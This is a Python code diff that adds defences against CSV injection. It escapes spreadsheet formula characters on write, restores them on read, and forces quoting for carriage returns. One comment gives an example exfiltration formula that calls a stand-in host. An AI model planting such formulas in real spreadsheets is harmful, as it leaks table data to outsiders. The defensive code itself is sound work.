@@ -50,10 +50,73 @@ def atomic_write_text(path: Path, text: str) -> None:
     atomic_write_bytes(path, text.encode("utf-8"))
 
 
+# A spreadsheet runs a cell that starts with one of these as a formula (OWASP "CSV injection"): a class, label or
+# file name like =HYPERLINK("http://x/?"&A2) would leak the table when a clinician opens the CSV.
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+
+
+def csv_cell(v: Any) -> Any:
+    """A value as a CSV cell no spreadsheet runs: a text cell that starts with a formula character (after any
+    single quotes) gets one more leading ``'`` (OWASP's rule); numbers and other text are left as they are.
+    ``csv_value`` undoes it exactly ("-1" -> "'-1" -> "-1"; "'=x" -> "''=x" -> "'=x")."""
+    if isinstance(v, str) and v.lstrip("'")[:1] in FORMULA_START and v.lstrip("'"):
+        return "'" + v
+    return v
+
+
+def csv_value(v: Any) -> Any:
+    """The value ``csv_cell`` was given (a cell the tool wrote, read back)."""
+    if isinstance(v, str) and v[:1] == "'" and v.lstrip("'")[:1] in FORMULA_START and v.lstrip("'"):
+        return v[1:]
+    return v
+
+
+def csv_safe(frame: Any) -> Any:
+    """``frame`` with every text cell and column name through ``csv_cell`` (numeric columns untouched)."""
+    import pandas as pd
+    out = frame.rename(columns=csv_cell)
+    for col in range(out.shape[1]):
+        s = out.iloc[:, col]
+        if _text(pd, s) or isinstance(s.dtype, pd.CategoricalDtype):
+            out.isetitem(col, s.astype(object).map(csv_cell))
+    return out
+
+
+def _has_cr(frame: Any) -> bool:
+    import pandas as pd
+    return any("\r" in str(c) for c in frame.columns) or any(
+        isinstance(v, str) and "\r" in v for i in range(frame.shape[1]) if _text(pd, frame.iloc[:, i])
+        for v in frame.iloc[:, i])
+
+
+def _text(pd: Any, s: Any) -> bool:
+    return pd.api.types.is_object_dtype(s.dtype) or pd.api.types.is_string_dtype(s.dtype)
+
+
 def atomic_to_csv(frame, path: Path, **kwargs: Any) -> None:
-    """``frame.to_csv(path, **kwargs)`` through a temp file (pandas writes in chunks: a kill could cut it)."""
+    """``frame.to_csv(path, **kwargs)`` through a temp file (pandas writes in chunks: a kill could cut it), every
+    text cell made safe for spreadsheets (``csv_cell``). Every CSV the tool writes goes through here."""
+    frame = csv_safe(frame)
+    if "quoting" not in kwargs and _has_cr(frame):
+        # pandas quotes a cell holding "\n" but not one holding "\r", which every CSV reader takes for the end of
+        # the row: a file name with a carriage return would shift the table's columns.
+        import csv
+        kwargs["quoting"] = csv.QUOTE_NONNUMERIC
     with atomic_path(path) as tmp:
         frame.to_csv(tmp, **kwargs)
+
+
+def read_csv(path: str | Path, **kwargs: Any) -> Any:
+    """``pandas.read_csv`` of a CSV the tool wrote (or a manifest), ``csv_cell``'s quote undone in text cells and
+    column names, so that labels like "-1" and names like "=x" round-trip."""
+    import pandas as pd
+    frame = pd.read_csv(path, **kwargs)
+    frame = frame.rename(columns=csv_value)
+    for col in range(frame.shape[1]):
+        s = frame.iloc[:, col]
+        if _text(pd, s):
+            frame.isetitem(col, s.map(csv_value))
+    return frame
 
 
 def atomic_save_tensors(tensors: dict[str, torch.Tensor], path: Path, metadata: dict[str, str] | None = None) -> None:
